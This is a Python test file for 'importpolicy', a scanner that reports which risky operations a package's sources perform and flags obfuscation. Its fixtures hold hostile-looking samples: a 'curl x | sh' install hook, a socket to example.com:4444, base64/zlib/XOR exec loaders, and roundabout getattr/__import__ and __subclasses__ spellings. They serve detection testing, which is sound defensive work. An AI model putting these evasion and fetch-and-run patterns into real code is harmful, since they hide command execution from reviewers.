"""inspect: what a package can do, as far as its files tell.

Each source that hides something stands beside one that looks like it and does
not: that one must not be flagged.
"""

import base64
import http.server
import json
import os
import tarfile
import threading
import unittest
import zlib

from importpolicy import _operations, _text_signs, _uses
from importpolicy._events import EVENTS
from test.test_importpolicy.cli_support import CommandTestCase
from test.test_importpolicy.support import installed

HIDDEN = """\
import os, socket
os.system('id; uname -a')
socket.create_connection(('example.com', 4444))
"""


def encoded(text):
    return base64.b64encode(text.encode()).decode()


class UsesTest(unittest.TestCase):
    """Which operations does a source name?"""

    def uses(self, text, **kwargs):
        return [(use.capability, use.what.removeprefix("builtins."),
                 use.target) for use in _uses.scan(text, **kwargs).uses]

    def check(self, text, *expected):
        self.assertEqual(self.uses(text), list(expected), text)

    def test_spellings(self):
        system = ("run", "os.system", "id")
        for text in (
                "import os\nos.system('id')",
                "import os as o\no.system('id')",
                "import os\nf = os.system\nf('id')",
                "import os\ngetattr(os, 'system')('id')",
                "import os\ngetattr(os, 'sys' + 'tem')('id')",
                "import os\nos.__dict__['system']('id')",
                "import os\nvars(os)['system']('id')",
                "import os\nos.__dict__.get('system')('id')",
                "import os\nos.__getattribute__('system')('id')",
                "__import__('os').system('id')",
                "import builtins\nbuiltins.__import__('os').system('id')",
                "__builtins__['__import__']('os').system('id')",
                "import importlib\n"
                "importlib.import_module('o' + 's').system('id')",
                "import sys\nsys.modules['os'].system('id')",
                "import shutil\nshutil.os.system('id')",
                "import os\nglobals()['os'].system('id')",
                "from os import *\nsystem('id')",
                "import os\n(os if 1 else None).system('id')",
                "a = 'o'\nb = 's'\n__import__(a + b).system('id')",
                "exec(\"import os; os.system('id')\")"):
            with self.subTest(text):
                self.assertIn(system, self.uses(text))
                self.assertEqual([use for use in self.uses(text)
                                  if use[2] not in (None, "id")], [])

    def test_not_these(self):
        for text in (
                "def f(open):\n    open('x')",
                "def eval(x):\n    pass\neval('1')",
                "from re import compile\ncompile('x')",
                "import re\nre.compile('x')",
                "class C:\n    system = None\n\nC.system",
                "from .os import system\nsystem('x')",
                "os.system('x')",                   # which?
                "import os\nos.path.join('a', 'b')",
                "import os\nhasattr(os, 'fork')",
                "import subprocess\nisinstance(x, subprocess.Popen)",
                "import socket\ndef f(x: socket.socket): pass",
                "from typing import TYPE_CHECKING\n"
                "if TYPE_CHECKING:\n    from os import system",
                "'import os; os.system(1)'"):
            with self.subTest(text):
                self.check(text)

    def test_files(self):
        self.check("open('/etc/passwd')", ("read", "open", "/etc/passwd"))
        self.check("open('/x', 'w')", ("write", "open", "/x"))
        self.check("open(name, mode)", ("write", "open", None))
        self.check("import os\nos.open('/x', os.O_RDONLY)",
                   ("read", "os.open", "/x"))
        self.check("import os\nos.open('/x', os.O_WRONLY | os.O_CREAT)",
                   ("write", "os.open", "/x"))
        self.check("from pathlib import Path\n"
                   "def f(p: Path):\n    (p / 'x').parent.write_text('')",
                   ("write", "pathlib.Path.write_text", None))
        self.check("import zipfile\nzipfile.ZipFile(x)",
                   ("read", "zipfile.ZipFile", None))

    def test_targets(self):
        self.check("import os\nos.environ['A']", ("env", "os.environ", "A"))
        self.check("import os\nos.environ.get('A')",
                   ("env", "os.environ", "A"))
        self.check("from os import environ as e\n'A' in e",
                   ("env", "os.environ", None), ("env", "os.environ", "A"))
        self.check("import os\nos.getenv('A')", ("env", "os.getenv", "A"))
        self.check("import subprocess\nsubprocess.run(['git', 'x'])",
                   ("run", "subprocess.run", "git"))
        self.check("import os\nos.system('curl x | sh')",
                   ("run", "os.system", "sh"))
        self.check("import subprocess, sys\n"
                   "subprocess.run([sys.executable, x])",
                   ("run", "subprocess.run", "$PREFIX/bin/python"))
        self.check("import socket\ns = socket.socket()\n"
                   "s.connect(('example.com', 80))",
                   ("net", "socket.socket", None),
                   ("net", "socket.socket.connect", "example.com:80"))
        self.check("import urllib.request\n"
                   "urllib.request.urlopen('https://example.com/x')",
                   ("net", "urllib.request.urlopen", "example.com:443"))
        self.check("import ctypes\nctypes.CDLL('libc.so.6')",
                   ("ffi", "ctypes.CDLL", "libc.so.6"))

    def test_patch(self):
        for text in ("import socket\nsocket.socket = None",
                     "import socket\nsetattr(socket, 'socket', None)",
                     "import socket\ndel socket.socket",
                     "import sys\nsys.modules['socket'] = None"):
            with self.subTest(text):
                (capability, _, target), = self.uses(text, own=["mine"])
                self.assertEqual((capability, target), ("patch", "socket"))
        for text in ("import mine.x\nmine.x.y = 1",
                     "from . import x\nx.y = 1",
                     "class C: pass\nC.y = 1",
                     "import sys\nsys.modules[__name__] = None",
                     "import sys\nsys.modules['mine.x'] = None",
                     "import sys\nsys.modules[f'mine.{x}'] = None",
                     "import socket\ns = socket.gaierror()\ns.x = 1"):
            with self.subTest(text):
                self.assertEqual(self.uses(text, own=["mine"]), [])

    def test_when(self):
        text = """
import os, threading
os.system('module')
def called():
    os.system('called')
def reached():
    called2()
def called2():
    os.system('reached')
reached()
class C:
    os.system('class')
    def __init__(self):
        self.go()
    def go(self):
        os.system('method')
    def stay(self):
        os.system('stay')
C()
def decorator(f):
    os.system('decorator')
@decorator
def f(x=os.system('default')):
    pass
threading.Thread(target=lambda: os.system('thread')).start()
if __name__ == "__main__":
    os.system('main')
if sys.platform and __name__ == "__main__":
    os.system('main2')
[os.system('loop') for x in y]
later = lambda: os.system('later')
"""
        found = {use.target: use.when for use in _uses.scan(text).uses}
        self.assertEqual(found, {
            "module": "import", "called": "call", "reached": "import",
            "class": "import", "method": "import", "stay": "call",
            "decorator": "import", "default": "import", "thread": "import",
            "main": "main", "main2": "main", "loop": "import",
            "later": "call"})

    def test_dynamic(self):
        self.assertEqual(_uses.scan(
            "import importlib\nimportlib.import_module('a.' + name)"
        ).dynamic, [2])
        self.assertEqual(_uses.scan("__import__('a')").dynamic, [])

    def test_table(self):
        # Capabilities are the events'; names are there, where Python is.
        events = {event.name: event.capability for event in EVENTS}
        for name in _operations.spelled():
            operation = _operations.find(name)
            with self.subTest(name):
                allowed = {events[operation.event]}
                if operation.event == "open":
                    allowed.add("read")
                self.assertIn(operation.capability, allowed)

    def test_large(self):
        # Nothing in a source makes looking at it take long.
        for text in ("x = " + "(" * 5000, "x = " + "-" * 100_000 + "1",
                     "exec('a' * 10 ** 9 * 10 ** 9)",
                     "exec('%9999999999d' % 1)",
                     "exec(','.join(['" + "a" * 1000 + "' * 1000] * 10 ** 6))",
                     "exec('x'.replace('', 'y' * 10 ** 6) * 10)",
                     "a = b\nb = a\na()\nb.c()",
                     "x = x.y\nx()"):
            with self.subTest(text[:30]):
                try:
                    _uses.scan(text)
                except (SyntaxError, RecursionError, MemoryError,
                        ValueError):
                    pass


class SignsTest(unittest.TestCase):
    """Pairs: one hides something, the other does not."""

    def signs(self, text):
        return sorted({sign.code for sign in (
            *_uses.scan(text).signs, *_text_signs.of_text(text))})

    def check(self, code, hiding, plain):
        self.assertIn(code, self.signs(hiding), hiding)
        self.assertEqual(self.signs(plain), [], plain)

    def test_decoded_code(self):
        for hiding, plain in (
                (f"import base64\nexec(base64.b64decode('{encoded('x=1')}'))",
                 "import base64\nx = base64.b64decode(data)\n"
                 "exec(open('f').read())"),
                ("import zlib\ncode = zlib.decompress(data)\nexec(code)",
                 "import zlib\ncode = zlib.decompress(data)\nshow(code)"),
                ("from base64 import b64decode as b\n"
                 "def d(x):\n    return b(x).decode()\n"
                 "eval(compile(d(data), 'f', 'exec'))",
                 "def d(x):\n    return x.decode()\n"
                 "eval(compile(d(data), 'f', 'exec'))"),
                ("import marshal, zlib\n"
                 "exec(marshal.loads(zlib.decompress(data)))",
                 "import marshal\ndef load(file):\n"
                 "    return marshal.loads(file.read())"),
                ("exec(bytes(a ^ b for a, b in zip(data, key)))",
                 "x = bytes(a ^ b for a, b in zip(data, key))"),
                ("from cryptography.fernet import Fernet\n"
                 "exec(Fernet(key).decrypt(data))",
                 "from cryptography.fernet import Fernet\n"
                 "text = Fernet(key).decrypt(data)"),
                ("exec(bytes.fromhex('783d31'))",
                 "key = bytes.fromhex('783d31')\nexec(source, names)"),
                ("exec(''.join(chr(c) for c in [120, 61, 49]))",
                 "table = ''.join(chr(c) for c in [120, 61, 49])"),
                ("import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
                 "import codecs\ncodecs.decode('vzcbeg bf', 'rot13')\n"
                 "exec('x = 1')")):
            with self.subTest(hiding):
                self.check("decoded-code", hiding, plain)

    def test_decoded_command(self):
        self.check(
            "decoded-command",
            f"import os, base64\nos.system(base64.b64decode('{encoded('id')}')"
            ".decode())",
            "import subprocess\n"
            "subprocess.run(['git', name.decode('utf-8')])")

    def test_fetched_code(self):
        self.check(
            "fetched-code",
            "import urllib.request as u\nexec(u.urlopen(url).read())",
            "import urllib.request as u\nx = u.urlopen(url).read()\n"
            "exec('y = 1')")
        self.check("fetched-code",
                   "import requests\ncode = requests.get(url).text\n"
                   "exec(code)",
                   "import requests\ncode = requests.get(url).text\n"
                   "print(code)")

    def test_hidden_code(self):
        packed = base64.b64encode(zlib.compress(HIDDEN.encode())).decode()
        harmless = encoded("Lorem ipsum dolor sit amet, " * 8)
        for hiding in (f"X = '{encoded(HIDDEN)}'",
                       f"X = '{HIDDEN.encode().hex()}'",
                       f"X = '{packed}'",
                       f"import base64, zlib\n"
                       f"zlib.decompress(base64.b64decode('{packed}'))"):
            with self.subTest(hiding[:40]):
                self.check("hidden-code", hiding, f"X = '{harmless}'")
        # What it does is told as well.
        found = _uses.scan(f"X = '{encoded(HIDDEN)}'")
        self.assertIn("os.system", {use.what for use in found.uses})

    def test_hidden_name(self):
        for hiding, plain in (
                ("import os\ngetattr(os, 'sys' + 'tem')",
                 "import os\ngetattr(os, 'O_' + 'BINARY', 0)"),
                ("__import__('sub' + 'process')",
                 "__import__('package.' + 'part')"),
                ("import importlib\nimportlib.import_module('so'[::1] "
                 "+ 'tekc'[::-1])", "import importlib\n"
                 "importlib.import_module('socket')"),
                ("__import__(''.join(map(chr, [111, 115])))",
                 "__import__('os')"),
                ("import sys\nsys.modules['o' + 's']",
                 "import sys\nsys.modules['a' + 'b']")):
            with self.subTest(hiding):
                self.check("hidden-name", hiding, plain)

    def test_hidden_address(self):
        self.check("hidden-address",
                   "import base64\nurl = base64.b64decode("
                   f"'{encoded('https://example.com/x')}')",
                   "import base64\nurl = base64.b64decode("
                   f"'{encoded('an ordinary text')}')")

    def test_roundabout(self):
        for hiding, plain in (
                ("getattr(__import__('os'), 'system')('id')",
                 "getattr(__import__('package'), 'system')('id')"),
                ("import os\nos.__dict__['system']('id')",
                 "import os\nos.__dict__['name']"),
                ("().__class__.__base__.__subclasses__()",
                 "Base.__subclasses__()"),
                ("f.__globals__['os'].x", "f.__globals__['name'].x")):
            with self.subTest(hiding):
                self.check("roundabout", hiding, plain)

    def test_characters(self):
        self.check("bidirectional", "x = 'a\u202e \u2066b'  # \u2069",
                   "x = '\u2066a\u2069'")
        self.check("invisible", "x = '" + "\u200b\u200c" * 8 + "'",
                   "x = 'a\u200db \u2764\ufe0f'")
        self.check("disguised-name", "\uff45xec('x = 1')",
                   "na\u00efve = 1")

    def test_out_of_sight(self):
        self.check("out-of-sight", "x = 1;" + " " * 200 + "import os",
                   "x = 1" + " " * 200 + "# a remark")

    def test_long_line(self):
        self.check("long-line", "x = [" + "1, " * 10_000 + "]",
                   "x = [" + "1,\n" * 10_000 + "]")


class InspectTestCase(CommandTestCase):

    def wheel(self, files, metadata="Requires-Dist: inner\n", version=2):
        info = f"outer-{version}.dist-info"
        return self.world.write_zip(
            f"app/outer-{version}-py3-none-any.whl", files | {
                f"{info}/METADATA": "Metadata-Version: 2.1\nName: outer\n"
                f"Version: {version}\n{metadata}",
                f"{info}/WHEEL": "Wheel-Version: 1.0\n"
                "Root-Is-Purelib: true\nTag: py3-none-any\n"})

    def inspect(self, *arguments, status):
        return self.ends(self.command("inspect", *arguments), status)

    def report(self, *arguments, status):
        return json.loads(self.inspect(*arguments, "--json",
                                       status=status).out)

    def codes(self, *arguments, status):
        return sorted({finding["code"] for finding in self.report(
            *arguments, status=status)["findings"]})

    OLD = {"outer/__init__.py": """
               import os
               def token():
                   return os.environ["HOME"]
               def run():
                   os.system("git status")
               """,
           "outer/gone.py": "import ctypes\nctypes.CDLL('libc.so.6')\n"}
    NEW = {"outer/__init__.py": """
               # It stands elsewhere now.
               import os, socket
               from outer import more
               def token():
                   return os.environ["HOME"] + os.environ["AWS_SECRET"]
               def run():
                   os.system("git status")
               run()
               def send(host):
                   socket.create_connection((host, 80))
                   open("/tmp/x")
               """,
           "outer/more.py": "getattr(__import__('os'), 'pop' + 'en')('id')\n",
           "outer/fast.cpython-313-x86_64-linux-gnu.so": b"\x7fELF",
           "outer.pth": "import outer\n"}


class InspectTest(InspectTestCase):

    def make(self, name="outer", **files):
        self.world.distribution(name, files or {
            "outer/__init__.py": """
                import os
                from outer import part

                def fetch():
                    return os.environ["TOKEN"]
                """,
            "outer/part.py": """
                import socket
                def send(host):
                    socket.create_connection((host, 80))
                    socket.create_connection(("example.com", 443))
                """,
            "outer/tests/test_part.py": "open('x', 'w')\n"},
            requires=["inner"])
        self.world.distribution("inner", {
            "inner/__init__.py": "import subprocess\n"
            "subprocess.run(['git', 'status'])\n"})

    def test_text(self):
        self.make()
        self.golden("inspect", self.inspect("outer", status=1).out)
        self.assertNotIn("inner 1", self.inspect(
            "outer", "--no-deps", status=0).out)

    def test_json(self):
        self.make()
        packages = self.report("outer", status=1)["packages"]
        self.assertEqual([package["name"] for package in packages],
                         ["outer", "inner"])
        use = packages[0]["uses"][0]
        self.assertEqual(use, {
            "file": "outer/__init__.py", "in_tests": False, "line": 6,
            "capability": "env", "what": "os.environ",
            "event": "os.putenv", "target": "TOKEN", "when": "call",
            "called": True})

    def test_nothing_runs(self):
        self.make(**{"outer/__init__.py": self.world.mark("outer"),
                     "outer.pth": "import outer\n"})
        self.assertIn("pth", self.codes("outer", status=1))
        self.assertEqual(self.world.marks(), set())

    def test_policy(self):
        self.make()
        text = self.inspect("outer", "--policy", status=1).out
        self.golden("inspect_policy", text)
        self.world.policy(text, "app/draft.json")
        self.ends(self.command("check", "draft.json"), 0)

    def test_what_starts(self):
        # Not installed: this interpreter would run it.
        report = self.report("--no-deps", self.wheel({
            "outer/__init__.py": "",
            "outer.pth": "import outer; exec('x = 1')\n/somewhere\n",
            "plain.pth": "/somewhere/else\n",
            "sitecustomize.py": "import os\nos.system('id')\n",
            "outer-2.dist-info/entry_points.txt":
                "[console_scripts]\no = outer:main\n[pytest11]\no = outer\n"
            }), status=1)
        start = [(part["file"], part["code"])
                 for part in report["packages"][0]["start"]]
        self.assertEqual(start, [
            ("outer.pth", "pth"), ("sitecustomize.py", "start"),
            ("outer-2.dist-info/entry_points.txt", "plugin")])
        when = {use["file"]: use["when"]
                for use in report["packages"][0]["uses"]}
        self.assertEqual(when, {"outer.pth": "start",
                                "sitecustomize.py": "start"})
        self.assertEqual(self.codes("--no-deps", self.wheel(
            {"outer/__init__.py": "", "plain.pth": "/somewhere\n"}),
            status=0), [])

    def test_not_analysed(self):
        self.make(**{
            "outer/__init__.py": "", "outer/old.py": "print 'x'\n",
            "outer/native.so": b"\x7fELF", "outer/gone.pyc": b"",
            "outer/here.py": "", "outer/__pycache__/here.cpython-313.pyc": b"",
            "outer/data.bin": b"\x7fELF", "outer/program": b"\x7fELF",
            "outer/late.py": "import importlib\n"
                             "importlib.import_module(name)\n"})
        self.world.write("deps/outer/planted.py", "")
        found = {(finding["code"], os.path.basename(finding["file"]))
                 for finding in self.report("outer", "--no-deps",
                                            status=1)["findings"]}
        self.assertEqual(found, {
            ("unreadable", "old.py"), ("native", "native.so"),
            ("sourceless", "gone.pyc"), ("native", "program"),
            ("dynamic-import", "late.py"), ("unlisted", "planted.py")})

    def test_wheel(self):
        wheel = self.wheel({
            "outer/__init__.py": "import os\nos.getenv('A')\n",
            "outer-2.data/purelib/outer.pth": "import outer\n"},
            "Requires-Dist: inner\nRequires-Dist: more; extra == 'm'\n")
        self.make()
        report = self.report(wheel, status=1)
        self.assertEqual([package["name"] for package in report["packages"]],
                         ["outer", "inner"])
        outer = report["packages"][0]
        self.assertEqual((outer["version"], outer["kind"],
                          outer["principals"]), ("2", "wheel", ["outer"]))
        self.assertEqual(outer["start"][0]["file"], "outer.pth")

    def test_source(self):
        files = {"outer-3/PKG-INFO": "Name: outer\nVersion: 3\n",
                 "outer-3/src/outer/__init__.py": "",
                 "outer-3/setup.py": "import os\nfrom setuptools import setup"
                 "\nos.system('curl x | sh')\nsetup()\n"}
        for name, text in files.items():
            self.world.write(f"app/{name}", text)
        path = self.world.path("app/outer-3.tar.gz")
        with tarfile.open(path, "w:gz") as archive:
            archive.add(self.world.path("app/outer-3"), "outer-3")
        for name in path, "./outer-3":
            with self.subTest(name):
                report = self.report(name, status=1)
                self.assertEqual([finding["code"] for finding
                                  in report["findings"]], ["install"])
                outer, = report["packages"]
                self.assertEqual((outer["name"], outer["version"],
                                  outer["principals"]),
                                 ("outer", "3", ["outer"]))

    def test_damaged(self):
        path = self.wheel({"outer/__init__.py": "x = 1\n" * 100})
        with open(path, "r+b") as file:
            file.seek(60)
            file.write(b"\0" * 20)
        for name, text in (("text.whl", "no archive"), ("t.tar.gz", "none")):
            self.world.write(f"app/{name}", text)
        for name in path, "text.whl", "t.tar.gz":
            with self.subTest(name):
                result = self.inspect(name, status=2)
                self.assertRegex(result.err, "^importpolicy: .*\n$")

    def test_sarif(self):
        self.make(**{"outer/__init__.py":
                     "import os\ngetattr(os, 'sys' + 'tem')('id')\n"})
        log = json.loads(self.inspect("outer", "--no-deps", "--format",
                                      "sarif", status=1).out)
        self.assertEqual([(result["ruleId"], result["level"]) for result
                          in log["runs"][0]["results"]],
                         [("hidden-name", "error"), ("import", "warning")])

    def upgrade(self, *options, status):
        self.wheel(self.OLD, "", 1)
        self.wheel(self.NEW, "Requires-Dist: more>=1\n"
                   "Requires-Dist: other; extra == 'x'\n", 2)
        return self.ends(self.command(
            "diff", "--upgrade", "outer-1-py3-none-any.whl.."
            "outer-2-py3-none-any.whl", *options), status).out

    def test_upgrade(self):
        self.golden("upgrade", self.upgrade(status=1))
        self.golden("upgrade_markdown", self.upgrade("--format", "markdown",
                                                     status=1))
        changes = json.loads(self.upgrade("--json", status=1))["changes"]
        self.assertEqual({change["principal"] for change in changes},
                         {"outer"})
        granted = [change["level"] for change in changes
                   if change["granted"]]
        levels = ["error", "warning", "note"]
        self.assertEqual(granted, sorted(granted, key=levels.index))
        log = json.loads(self.upgrade("--format", "sarif", status=1))
        self.assertIn("hides", {result["ruleId"] for result
                                in log["runs"][0]["results"]})

    def test_upgrade_to_nothing_new(self):
        # Other lines, other files that do the same, and tests.
        new = {"outer/__init__.py": "\n\n\n" + self.OLD["outer/__init__.py"],
               "outer/moved.py": self.OLD["outer/gone.py"],
               "outer/tests/test_x.py": "import socket\n"
               "socket.create_connection(('example.com', 80))\n"}
        self.wheel(self.OLD, "", 1)
        self.wheel(new, "", 2)
        result = self.ends(self.command(
            "diff", "--upgrade", "outer-1-py3-none-any.whl.."
            "outer-2-py3-none-any.whl"), 0)
        self.assertEqual(result.out, "no difference\n")

    def test_upgrade_unusable(self):
        for arguments in (["--upgrade", "outer"], ["--upgrade", "a..b"],
                          ["old.json"], [],
                          ["old.json", "new.json", "--upgrade", "a==1..2"]):
            with self.subTest(arguments):
                result = self.ends(self.command("diff", *arguments), 2)
                self.assertEqual(result.out, "")
                self.assertRegex(result.err, "^importpolicy: .*\n$")

    def test_unusable(self):
        for name in ("nowhere", "nowhere.whl", "os"):
            with self.subTest(name):
                result = self.inspect(name, status=2)
                self.assertEqual(result.out, "")
                self.assertRegex(result.err, "^importpolicy: .*\n$")

    def test_fetching(self):
        # There is no pip beside this interpreter: one clear line.
        result = self.inspect("outer==1.0", status=2)
        self.assertEqual(result.out, "")
        self.assertIn("cannot be fetched", result.err)
        self.assertNotIn("Traceback", result.err)


class InstalledTest(InspectTestCase):
    """Real packages; see test_real_packages.py."""

    PLAIN = ["attrs", "certifi", "click", "flask", "idna", "jinja2", "PyYAML",
             "s3transfer", "six", "typing_extensions", "urllib3", "werkzeug"]

    def setUp(self):
        self.site = installed(self, "requests")
        super().setUp()
        self.world.python = os.environ["IMPORTPOLICY_TEST_VENV"]

    def command(self, *arguments, env=None, **kwargs):
        return super().command(*arguments, env={"PYTHONPATH": None}
                               | (env or {}), **kwargs)

    def test_requests(self):
        report = self.report("requests", status=1)
        uses = {(use["capability"], use["target"])
                for package in report["packages"] for use in package["uses"]}
        self.assertLessEqual({("env", "NETRC"), ("net", None)}, uses)
        names = {package["name"] for package in report["packages"]}
        self.assertLessEqual({"requests", "urllib3", "certifi"}, names)
        # What was drafted is one with which it works, and not without.
        draft = report["policy"]
        self.assertEqual(list(draft["$permissions"]), ["requests"])
        self.world.policy(draft, "app/draft.json")
        self.ends(self.command("check", "draft.json"), 0)
        with Server() as url:
            self.world.write("app/main.py", f"""
                import requests
                with requests.Session() as session:
                    print(session.get("{url}").text)
                """)
            draft["$permissions"]["__main__"] = {"read": ["$APP"]}
            for policy, code in ((draft, 0), (draft | {"$permissions": {
                    "requests": draft["$permissions"]["requests"]
                    | {"net": False}}}, 1)):
                self.world.policy(policy)
                result = self.world.start(
                    "main.py", env={"PYTHONPATH": None, "NO_PROXY": "*"})
                self.assertEqual(result.code, code, result)
                self.assertEqual("the answer" in result.out, code == 0)

    def test_native(self):
        for name, file in (("cryptography", "cryptography/hazmat"),
                           ("markupsafe", "markupsafe/_speedups")):
            with self.subTest(name):
                report = self.report(name, "--no-deps", status=1)
                native = report["packages"][0]["native"]
                self.assertTrue(any(part["file"].startswith(file)
                                    for part in native), native)
                self.assertEqual(report["policy"]["$permissions"][name]
                                 ["ffi"], [name])

    def test_plain(self):
        # None of these hides anything.
        report = self.report("--no-deps", *self.PLAIN, status=1)
        self.assertEqual(len(report["packages"]), len(self.PLAIN))
        for package in report["packages"]:
            with self.subTest(package["name"]):
                self.assertGreater(package["sources"], 0)
                self.assertEqual(package["signs"], [])
                self.assertEqual([part for part in package["not_analysed"]
                                  if part["code"] != "dynamic-import"], [])

    def test_fetched(self):
        self.wheel(self.OLD, "", 1)
        self.wheel(self.NEW, "", 2)
        env = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": self.world.app,
               "PIP_EXTRA_INDEX_URL": None, "PIP_CONFIG_FILE": os.devnull}
        result = self.ends(self.command("diff", "--upgrade", "outer==1..2",
                                        env=env), 1)
        self.assertIn("outer uses net: socket.create_connection", result.out)
        self.assertEqual(result.err, "importpolicy: pip fetches outer 1\n"
                         "importpolicy: pip fetches outer 2\n")
        result = self.ends(self.command("inspect", "outer==3", env=env), 2)
        self.assertEqual(result.out, "")
        self.assertRegex(result.err, r"outer==3: cannot be fetched: .*\n$")


class Server:
    """Answers whatever it is asked."""

    class Handler(http.server.BaseHTTPRequestHandler):

        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "10")
            self.end_headers()
            self.wfile.write(b"the answer")

        def log_message(self, *args):
            pass

    def __enter__(self):
        self.server = http.server.HTTPServer(("127.0.0.1", 0), self.Handler)
        self.thread = threading.Thread(target=self.server.serve_forever,
                                       args=[0.05])
        self.thread.start()
        return f"http://127.0.0.1:{self.server.server_port}/"

    def __exit__(self, *args):
        self.server.shutdown()
        self.thread.join()
        self.server.server_close()


if __name__ == "__main__":
    unittest.main()
